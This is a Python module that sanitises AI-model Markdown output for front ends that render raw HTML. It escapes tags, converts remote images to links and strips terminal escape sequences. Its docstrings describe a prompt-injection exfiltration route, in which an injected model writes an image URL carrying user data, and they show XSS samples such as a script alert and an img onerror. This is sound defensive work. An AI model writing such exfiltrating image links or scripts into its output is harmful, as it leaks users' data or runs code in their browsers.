"""Model-written Markdown made safe to hand to a front end that renders raw HTML.

JupyterLab renders trusted ``text/markdown`` with its raw HTML, so a ``<script>`` or an
``<img onerror=...>`` in a reply would run in the page. Every ``<`` that could open a tag,
comment or declaration becomes ``&lt;``, except in code, where Markdown shows it as it is.
Inside ``$..$`` math the ``<`` gets a space instead (invisible to TeX, fatal to a tag),
so the result is safe whether or not a renderer takes it for math.

Where code starts and ends is decided by a CommonMark parser; the result is parsed again
and, should any raw HTML survive (the scan and the parser disagreed), escaped more widely.

Two more things never reach a front end from model output. Remote images: a model fed a
prompt-injected document can write ``![](https://host/?q=<your data>)``, and a browser that
loads it sends the data away. Unless the session allows them (``remote_images``), images
other than inline ``data:`` ones are shown as links. And terminal escape sequences (ANSI
colours, OSC titles and hyperlinks): terminal front ends act on them in ``text/plain``.
"""
from __future__ import annotations

import functools
import re

_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
_AUTOLINK = re.compile(r"<(?:(?:https?|mailto|ftp):[^\s<>]*|[\w.+-]+@[\w-]+(?:\.[\w-]+)+)>", re.ASCII)
_LINE = re.compile(r"[^\r\n]*(?:\r\n?|\n)|[^\r\n]+")  # lines as CommonMark counts them
_PUNCTUATION = frozenset(r"""!"#$%&'()*+,-./:;<=>?@[\]^_`{|}~""")
#: Escape sequences (CSI, OSC up to BEL or ST, two-byte ESC forms) and the C0/C1 controls a
#: terminal acts on; tab, newline and carriage return stay.
_CONTROLS = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]?|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?|\x1b[ -~]?"
                       r"|\x9b[0-?]*[ -/]*[@-~]?|\x9d[^\x07\x1b\x9c]*[\x07\x9c]?|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_INLINE_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,", re.I)
_MARKDOWN_INLINE_IMAGE = re.compile(r"!\[[^\]\n]*\]\(\s*<?data:image/(png|jpeg|gif|webp);base64,", re.I)
_remote_images = False


def allow_remote_images(allowed: bool) -> None:
    """Let model output load images from other sites (the ``remote_images`` setting)."""
    global _remote_images
    _remote_images = bool(allowed)


def inline_image(src: str) -> bool:
    """True for an image carried in the text itself (a ``data:image/...;base64,`` URL)."""
    return bool(_INLINE_IMAGE.match(src.strip()))


def image_allowed(src: str) -> bool:
    """True for an image source a page may load: inline ``data:`` images, or any when allowed."""
    return _remote_images or inline_image(src)


def strip_controls(text: str) -> str:
    """``text`` without terminal escape sequences and control characters.

    Example::

        strip_controls("\x1b[31mred\x1b[0m \x1b]0;title\x07done")   # 'red done'
    """
    return _CONTROLS.sub("", text)


def safe_markdown(text: str) -> str:
    """``text`` with raw HTML neutralised and code, math and the rest left as written.

    Remote images become links (unless allowed) and terminal escape sequences are removed.

    Example::

        safe_markdown("Hi <script>alert(1)</script> `<b>`")
        # 'Hi &lt;script>alert(1)&lt;/script> `<b>`'
    """
    text = strip_controls(text)
    if "<" not in text and ("![" not in text or _remote_images):
        return text
    code = _code_lines(text)
    for spans in (True, True, False):
        result = _escape(text, code, spans)
        if not _has_raw_html(result):
            return result
        # Escaping changed the block structure (an HTML block became a paragraph that now
        # swallows an indented "code" line): trust only code that is still code.
        code &= _code_lines(result)
    return _TAG_START.sub("&lt;", text)


def block_tokens(text: str, env: dict | None = None) -> list:
    """markdown-it's tokens for the blocks of ``text``, inline content left unparsed: where
    each block starts and ends (``token.map``) for a third less than a full parse. ``env``
    gathers link reference definitions under ``"references"``.

    Example::

        [t.type for t in block_tokens("# Title\\n\\nSome text") if t.level == 0]
        # ['heading_open', 'heading_close', 'paragraph_open', 'paragraph_close']
    """
    return _parser(False).parse(text, {} if env is None else env)


@functools.cache
def _parser(inline: bool):
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return md if inline else md.disable("inline")


def _code_lines(text: str) -> set[int]:
    """Line numbers inside fenced or indented code blocks, at any depth."""
    lines: set[int] = set()
    for token in _parser(False).parse(text):
        if token.type in ("fence", "code_block") and token.map:
            lines.update(range(*token.map))
    return lines


def _has_raw_html(text: str) -> bool:
    stack = list(_parser(True).parse(text))
    while stack:
        token = stack.pop()
        if token.type in ("html_block", "html_inline"):
            return True
        stack.extend(token.children or ())
    return False


def _escape(text: str, code: set[int], spans: bool) -> str:
    out: list[str] = []
    paragraph: list[str] = []
    for number, line in enumerate(_LINE.findall(text)):
        if number in code or not line.strip(" \t\r\n"):
            out.append(_escape_inline("".join(paragraph), spans))
            paragraph.clear()
            out.append(line)
        else:
            paragraph.append(line)
    out.append(_escape_inline("".join(paragraph), spans))
    return "".join(out)


def _escape_inline(text: str, spans: bool) -> str:
    """Escape tag starts in one paragraph's text, skipping code spans and autolinks."""
    out: list[str] = []
    i, n = 0, len(text)
    while i < n:
        c = text[i]
        if c == "\\" and i + 1 < n and text[i + 1] in _PUNCTUATION:
            out.append(text[i : i + 2])
            i += 2
        elif c == "`" and spans:
            run = len(text) - i - len(text[i:].lstrip("`"))
            end = _closing_backticks(text, i + run, run)
            stop = i + run if end is None else end
            out.append(text[i:stop])
            i = stop
        elif c == "$":
            math, stop = _math(text, i)
            out.append(math)
            i = stop
        elif c == "!" and text.startswith("![", i) and not _remote_images and not _MARKDOWN_INLINE_IMAGE.match(text, i):
            # "\![alt](url)" is a "!" and a link: the URL is shown, never fetched.
            out.append("\\!")
            i += 1
        elif c == "<":
            link = _AUTOLINK.match(text, i)
            if link:
                out.append(link.group())
                i = link.end()
            else:
                out.append("&lt;" if _TAG_START.match(text, i) else "<")
                i += 1
        else:
            out.append(c)
            i += 1
    return "".join(out)


def _closing_backticks(text: str, start: int, run: int) -> int | None:
    """The end of the backtick string of exactly ``run`` backticks closing a code span."""
    for match in re.finditer("`+", text[start:]):
        if len(match.group()) == run:
            return start + match.end()
    return None


def _math(text: str, i: int) -> tuple[str, int]:
    """The math starting at ``text[i]`` (``$$..$$`` or ``$..$`` on one line) and its end."""
    display = text.startswith("$$", i)
    delimiter = "$$" if display else "$"
    start = i + len(delimiter)
    end = text.find(delimiter, start)
    if end < 0 or (not display and "\n" in text[start:end]):
        return delimiter, start
    stop = end + len(delimiter)
    return _TAG_START.sub("< ", text[i:stop]), stop
